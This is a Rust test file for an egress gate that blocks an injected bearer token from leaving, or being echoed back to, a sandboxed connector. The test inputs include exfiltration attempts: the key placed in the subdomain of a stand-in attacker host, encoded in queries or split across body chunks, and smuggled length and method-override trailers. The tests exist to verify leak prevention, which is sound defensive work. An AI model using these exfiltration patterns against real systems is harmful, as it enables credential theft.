//! Tests of the gate and secrets at the raw socket: sent bytes, received bytes, and the end of the attempt.
#![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing, reason = "tests")]

use std::collections::VecDeque;
use std::net::{IpAddr, Ipv4Addr};
use std::pin::Pin;
use std::sync::{Arc, Mutex};
use std::task::{Context, Poll};
use std::time::Duration;

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use bytes::Bytes;
use cofferdam_core::clock::{Clock, SystemClock};
use cofferdam_core::failure::{Denial, DenialCode};
use cofferdam_core::secret::{Scanner, Secret};
use cofferdam_egress::egress::{
    Authorization, AuthorizationFuture, Authorize, EgressClient, Injection, PrivateGrant, RequestTarget,
    Resolve, ResolvedAddresses, default_tls,
};
use cofferdam_model::manifest::Manifest;
use http::{HeaderMap, HeaderValue, Request};
use http_body::{Body, Frame};
use http_body_util::BodyExt;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;
use tokio::time::sleep;
use wasmtime_wasi_http::{Error, WasiBody, WasiHttpHooks};

use super::attempt_log::{AttemptLog, Termination};
use super::guards::AttemptGuards;
use super::http::{EgressSettings, HttpGate};
use super::request_observer::KeyWatch;

const KEY: &str = "sk_test_4eC39HqLyjWDarjtT1zdp7dc";
const NAME: &str = "bearer/shop/default";

/// One bearer token, for every request.
struct Bearer;

impl Authorize for Bearer {
    fn authorize<'a>(&'a self, _: &'a RequestTarget, _: &'a http::request::Parts) -> AuthorizationFuture<'a> {
        let mut value = HeaderValue::from_static("Bearer sk_test_4eC39HqLyjWDarjtT1zdp7dc");
        value.set_sensitive(true);
        let injections = vec![Injection::Header(http::header::AUTHORIZATION, value)];
        Box::pin(async { Ok(Authorization { injections, ..Authorization::default() }) })
    }

    fn bindings_for(&self, _: &RequestTarget) -> Vec<String> {
        vec![NAME.to_owned()]
    }

    fn scanner(&self) -> Arc<Scanner> {
        Arc::new(Scanner::for_bindings([(NAME, &Secret::new(KEY.to_owned()))]))
    }
}

struct Loopback;

impl Resolve for Loopback {
    fn resolve<'a>(&'a self, _: &'a str) -> ResolvedAddresses<'a> {
        Box::pin(async { Ok(vec![IpAddr::V4(Ipv4Addr::LOCALHOST)]) })
    }
}

/// A server that stores every received byte. It answers the end of a head, and later of a body, with the
/// pieces that `answer` computes from those bytes, written one by one.
struct Server {
    port: u16,
    got: Arc<Mutex<Vec<u8>>>,
}

impl Server {
    async fn start(answer: impl Fn(&str) -> Vec<Vec<u8>> + Send + Sync + 'static) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let got = Arc::<Mutex<Vec<u8>>>::default();
        let (seen, answer) = (Arc::clone(&got), Arc::new(answer));
        tokio::spawn(async move {
            while let Ok((mut stream, _)) = listener.accept().await {
                let (seen, answer) = (Arc::clone(&seen), Arc::clone(&answer));
                tokio::spawn(async move {
                    stream.set_nodelay(true).unwrap();
                    let mut piece = [0; 4096];
                    while let Ok(length @ 1..) = stream.read(&mut piece).await {
                        seen.lock().unwrap().extend(&piece[..length]);
                        let text = String::from_utf8_lossy(&seen.lock().unwrap()).into_owned();
                        if text.ends_with("\r\n\r\n") {
                            for piece in answer(&text) {
                                if stream.write_all(&piece).await.is_err() {
                                    break;
                                }
                                sleep(Duration::from_millis(2)).await;
                            }
                        }
                    }
                });
            }
        });
        Self { port, got }
    }

    /// A server that never answers: an answer could come before the whole request is sent, and end it.
    async fn silent() -> Self {
        Self::start(|_| Vec::new()).await
    }

    fn got(&self) -> String {
        String::from_utf8_lossy(&self.got.lock().unwrap()).into_owned()
    }

    fn egress(&self) -> EgressClient {
        let manifest = format!(
            "[connector]\nname = \"github://acme/shop\"\nversion = \"1.0.0\"\ndescription = \"x\"\n\
             publisher = \"acme\"\n[capabilities.network]\nhosts = [\"http://shop.test:{}\"]\n\
             [capabilities.runtime]\nimports = [\"wasi:http/outgoing-handler\"]\n",
            self.port
        );
        let manifest = Manifest::parse("connector.toml", &manifest).unwrap();
        let place = PrivateGrant::parse(&format!("shop.test:{}=127.0.0.1", self.port)).unwrap();
        let tls = default_tls([]).unwrap();
        EgressSettings { tls, resolver: Arc::new(Loopback), allow_private: [place].into() }.client(&manifest)
    }

    fn uri(&self, path: &str) -> String {
        format!("http://shop.test:{}{path}", self.port)
    }
}

/// The result of one request: every byte of the answer that the guest got, and the verdict.
struct Came {
    fields: String,
    body: String,
    failed: bool,
    verdict: Option<Termination>,
}

impl Came {
    #[track_caller]
    fn denial(&self) -> &Denial {
        match &self.verdict {
            Some(Termination::Denied(denial)) => denial,
            other => panic!("not denied: {other:?}; {} {}", self.fields, self.body),
        }
    }
}

async fn send(egress: &EgressClient, request: Request<WasiBody>) -> Came {
    send_with(egress, request, Some(Arc::new(Bearer))).await
}

/// No circuits, no rates.
fn unguarded() -> AttemptGuards {
    let clock: Arc<dyn Clock> = Arc::new(SystemClock);
    let deadline = clock.now() + Duration::from_secs(3600);
    AttemptGuards {
        connector: "github://acme/api".into(),
        circuits: None,
        rate: None,
        clock,
        deadline,
        key_watch: Arc::new(KeyWatch::new("k".into())),
        waits: Arc::default(),
    }
}

async fn send_with(
    egress: &EgressClient,
    request: Request<WasiBody>,
    credentials: Option<Arc<dyn Authorize>>,
) -> Came {
    let ledger = Arc::new(AttemptLog::new(64 * 1024 * 1024));
    let mut gate = HttpGate::new(egress.clone(), Arc::clone(&ledger), None, credentials, unguarded());
    let mut came = Came { fields: String::new(), body: String::new(), failed: false, verdict: None };
    match Box::into_pin(gate.send_request(request, None, Box::new(async { Ok(()) }))).await {
        Err(_) => came.failed = true,
        Ok((response, _)) => {
            came.fields = format!("{:?}", response.headers());
            let mut body = response.into_body();
            while let Some(frame) = body.frame().await {
                match frame {
                    Ok(frame) => match frame.into_data() {
                        Ok(data) => came.body.push_str(std::str::from_utf8(&data).unwrap()),
                        Err(frame) => came.fields.push_str(&format!("{:?}", frame.trailers_ref())),
                    },
                    Err(_) => came.failed = true,
                }
            }
        }
    }
    came.verdict = ledger.termination();
    came
}

/// A body of these frames, each after a while.
struct Frames(VecDeque<Frame<Bytes>>, Option<Pin<Box<tokio::time::Sleep>>>);

impl Body for Frames {
    type Data = Bytes;
    type Error = Error;

    fn poll_frame(
        mut self: Pin<&mut Self>,
        cx: &mut Context<'_>,
    ) -> Poll<Option<Result<Frame<Bytes>, Error>>> {
        let wait = self.1.get_or_insert_with(|| Box::pin(sleep(Duration::from_millis(20))));
        std::task::ready!(wait.as_mut().poll(cx));
        self.1 = None;
        Poll::Ready(self.0.pop_front().map(Ok))
    }
}

fn body(pieces: &[&str]) -> WasiBody {
    let frames = pieces.iter().map(|piece| Frame::data(Bytes::from((*piece).to_owned()))).collect();
    Frames(frames, None).boxed_unsync()
}

/// The control: the server does get the secret in the place that the host chose, and the guest gets the
/// harmless answer.
#[tokio::test]
async fn a_request_carries_the_credential_unhindered() {
    let server = Server::start(|_| vec![b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok".to_vec()]).await;
    let request =
        Request::post(server.uri("/v1")).header("accept-encoding", "gzip, br").body(body(&[])).unwrap();
    let came = send(&server.egress(), request).await;
    assert_eq!((came.body.as_str(), came.failed, came.verdict), ("ok", false, None));
    assert!(server.got().contains(&format!("authorization: Bearer {KEY}\r\n")), "{}", server.got());
    // Compressed content cannot be searched.
    assert!(server.got().contains("accept-encoding: identity\r\n") && !server.got().contains("gzip"));
}

#[tokio::test]
async fn without_credentials_requests_are_unchanged() {
    let server = Server::start(|_| vec![b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok".to_vec()]).await;
    let uri = server.uri(&format!("/{KEY}"));
    let request = Request::get(uri).header("accept-encoding", "gzip, br").body(body(&[])).unwrap();
    let came = send_with(&server.egress(), request, None).await;
    assert_eq!((came.body.as_str(), came.verdict), ("ok", None));
    assert!(server.got().contains("accept-encoding: gzip, br\r\n") && server.got().contains(KEY));
}

#[tokio::test]
async fn a_secret_in_the_head_of_a_request_never_leaves() {
    let server = Server::silent().await;
    let percent: String = KEY.bytes().map(|byte| format!("%{byte:02X}")).collect();
    let half: String = KEY.chars().map(|c| if c == 'e' { "%65".to_owned() } else { c.to_string() }).collect();
    let requests = [
        ("path", Request::get(server.uri(&format!("/a/{KEY}/b")))),
        ("query", Request::get(server.uri(&format!("/?x=1&key={KEY}")))),
        ("query, all of it encoded", Request::get(server.uri(&format!("/?key={percent}")))),
        ("query, some of it encoded", Request::get(server.uri(&format!("/?key={half}")))),
        ("query, in base64", Request::get(server.uri(&format!("/?key={}", STANDARD.encode(KEY))))),
        ("another host", Request::get(format!("http://{KEY}.evil.example/"))),
        ("user", Request::get(format!("http://{KEY}@shop.test:{}/", server.port))),
        ("field", Request::get(server.uri("/")).header("x-note", format!("see {KEY}"))),
        (
            "field, in basic",
            Request::get(server.uri("/"))
                .header("x-auth", format!("Basic {}", STANDARD.encode(format!("me:{KEY}")))),
        ),
        ("field's name", Request::get(server.uri("/")).header(KEY.to_ascii_lowercase(), "1")),
        ("method", Request::get(server.uri("/")).method(KEY)),
    ];
    for (place, request) in requests {
        let came = send(&server.egress(), request.body(body(&[])).unwrap()).await;
        let denial = came.denial();
        assert_eq!(denial.code(), DenialCode::SecretInRequest, "{place}");
        let told = format!("{} {}", denial.message(), serde_json::to_string(&denial.details()).unwrap());
        assert!(told.contains(NAME) && !told.to_lowercase().contains("sk_test"), "{place}: {told}");
    }
    assert_eq!(server.got(), "", "not one byte of any");
}

/// Bytes before the secret may have left; no byte of the secret has, even if it is written in pieces.
#[tokio::test]
async fn a_secret_in_the_body_of_a_request_never_leaves() {
    let whole = format!("note: {KEY} and more");
    let bytes: Vec<String> = whole.chars().map(String::from).collect();
    let encoded = STANDARD.encode(format!("note: {KEY}"));
    let cases: [(&str, Vec<&str>); 5] = [
        ("in one piece", vec![&whole]),
        ("in two", vec!["note: sk_test_4eC39", &KEY[13..], " and more"]),
        ("byte by byte", bytes.iter().map(String::as_str).collect()),
        ("in base64", vec!["data:", &encoded[..20], &encoded[20..]]),
        ("at the very end", vec!["note: ", &KEY[..31], &KEY[31..]]),
    ];
    for (case, pieces) in cases {
        for length in [None, Some(pieces.iter().map(|piece| piece.len()).sum::<usize>())] {
            let server = Server::silent().await;
            let mut request = Request::post(server.uri("/v1"));
            if let Some(length) = length {
                request = request.header("content-length", length);
            }
            let came = send(&server.egress(), request.body(body(&pieces)).unwrap()).await;
            assert_eq!(came.denial().code(), DenialCode::SecretInRequest, "{case}");
            assert!(came.denial().message().contains("request to shop.test"), "{}", came.denial());
            sleep(Duration::from_millis(20)).await;
            let got = server.got();
            let body = got.split_once("\r\n\r\n").map_or("", |(_, body)| body);
            assert!(!body.contains("sk") && !body.contains(&encoded[8..16]), "{case}: {got}");
        }
    }
    let mut trailers = HeaderMap::new();
    trailers.insert("x-sum", HeaderValue::from_static(KEY));
    let frames = [Frame::data(Bytes::from_static(b"note")), Frame::trailers(trailers)];
    let server = Server::silent().await;
    let request = Request::post(server.uri("/")).body(Frames(frames.into(), None).boxed_unsync()).unwrap();
    assert_eq!(send(&server.egress(), request).await.denial().code(), DenialCode::SecretInRequest);
    assert!(!server.got().contains("x-sum"), "{}", server.got());
}

/// The head of an answer whose body ends with the connection, or has chunks.
const CHUNKED: &str = "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: x-sum\r\n";

fn chunk(text: &str) -> Vec<u8> {
    format!("{:x}\r\n{text}\r\n", text.len()).into_bytes()
}

type Answer = fn() -> Vec<Vec<u8>>;

#[tokio::test]
async fn a_reflected_secret_does_not_reach_the_guest() {
    let head = || format!("{CHUNKED}\r\n").into_bytes();
    let cases: [(&str, Answer); 8] = [
        ("field", || vec![format!("{CHUNKED}x-you-sent: Bearer {KEY}\r\n\r\n0\r\n\r\n").into_bytes()]),
        ("location", || {
            vec![
                format!("HTTP/1.1 302 Found\r\nLocation: /login?key={KEY}\r\nContent-Length: 0\r\n\r\n")
                    .into(),
            ]
        }),
        ("an error's text", || {
            let text = format!("{{\"error\":\"Invalid API key: {KEY}\"}}");
            vec![format!("HTTP/1.1 401 Unauthorized\r\nContent-Length: {}\r\n\r\n{text}", text.len()).into()]
        }),
        ("one chunk", || {
            vec![format!("{CHUNKED}\r\n").into(), chunk(&format!("you sent {KEY}.")), chunk("more")]
        }),
        ("two chunks", || {
            let (one, two) = KEY.split_at(20);
            vec![
                format!("{CHUNKED}\r\n").into(),
                chunk(&format!("you sent {one}")),
                chunk(two),
                chunk("more"),
            ]
        }),
        ("byte by byte", || {
            let head = format!("{CHUNKED}\r\n").into_bytes();
            let chunks =
                format!("you sent {KEY}.").chars().map(|c| chunk(&c.to_string())).collect::<Vec<_>>();
            std::iter::once(head).chain(chunks).collect()
        }),
        ("in base64, over chunks", || {
            let text = STANDARD.encode(format!("{{\"authorization\":\"Bearer {KEY}\"}}"));
            vec![format!("{CHUNKED}\r\n").into(), chunk(&text[..40]), chunk(&text[40..])]
        }),
        ("trailers", || {
            let end = format!("0\r\nx-sum: {KEY}\r\n\r\n").into_bytes();
            vec![format!("{CHUNKED}\r\n").into(), chunk("harmless"), end]
        }),
    ];
    for (place, answer) in cases {
        let server = Server::start(move |_| answer()).await;
        let request = Request::get(server.uri("/echo")).body(body(&[])).unwrap();
        let came = send(&server.egress(), request).await;
        let denial = came.denial();
        assert_eq!(denial.code(), DenialCode::SecretReflected, "{place}");
        assert!(came.failed, "{place}");
        let details = serde_json::Value::from(denial.details());
        assert_eq!(details["bindings"][0], NAME, "{place}");
        let told = format!("{} {details} {} {}", denial.message(), came.fields, came.body);
        assert!(!told.contains("sk"), "{place}: {told}");
        assert!(!came.body.contains(&STANDARD.encode(KEY)[..8]), "{place}: {}", came.body);
        // The control: the server had it and could have returned it.
        assert!(server.got().contains(KEY));
    }
    // Text that shares only a prefix with the secret passes completely, once it is known to differ.
    let (one, _) = KEY.split_at(20);
    let text = format!("you sent {one}");
    let pieces = vec![head(), chunk(&text), chunk(" or so, "), chunk(one), b"0\r\n\r\n".to_vec()];
    let server = Server::start(move |_| pieces.clone()).await;
    let request = Request::get(server.uri("/")).body(body(&[])).unwrap();
    let came = send(&server.egress(), request).await;
    assert_eq!((came.body, came.failed, came.verdict), (format!("{text} or so, {one}"), false, None));
}

/// Fields after a body are judged like those before it.
#[tokio::test]
async fn trailers_obey_header_rules() {
    let server = Server::silent().await;
    let trailing = |name: &'static str, value: &'static str| {
        let mut fields = HeaderMap::new();
        fields.insert(name, HeaderValue::from_static(value));
        let frames = [Frame::data(Bytes::from_static(b"abc")), Frame::trailers(fields)];
        Request::post(server.uri("/")).body(Frames(frames.into(), None).boxed_unsync()).unwrap()
    };
    let came = send(&server.egress(), trailing("x-http-method-override", "TRACE")).await;
    assert_eq!(came.denial().code(), DenialCode::MethodNotGranted);
    for (name, value) in [("content-length", "3"), ("x-http-method-override", "PUT"), ("authorization", "x")]
    {
        let came = send(&server.egress(), trailing(name, value)).await;
        assert_eq!((came.failed, came.verdict), (true, None), "{name}");
    }
    assert!(!server.got().contains("override"), "{}", server.got());
}

#[tokio::test]
async fn a_refused_trailer_is_not_sent() {
    for (name, is_refused) in [("content-length", true), ("range", true), ("x-checksum", false)] {
        let server = Server::silent().await;
        let mut fields = HeaderMap::new();
        fields.insert(name, HeaderValue::from_static("5"));
        let frames = [Frame::data(Bytes::from_static(b"abc")), Frame::trailers(fields)];
        let request =
            Request::post(server.uri("/")).body(Frames(frames.into(), None).boxed_unsync()).unwrap();
        let egress = server.egress();
        let sent = tokio::time::timeout(Duration::from_secs(1), send_with(&egress, request, None)).await;
        match sent {
            Ok(came) => assert!(is_refused && came.failed && came.verdict.is_none(), "{name}"),
            Err(_) => assert!(!is_refused, "{name}: no answer comes"),
        }
        // A length in the trailers could make the server read the next request wrongly.
        assert!(!is_refused || !server.got().contains(name), "{}", server.got());
    }
}
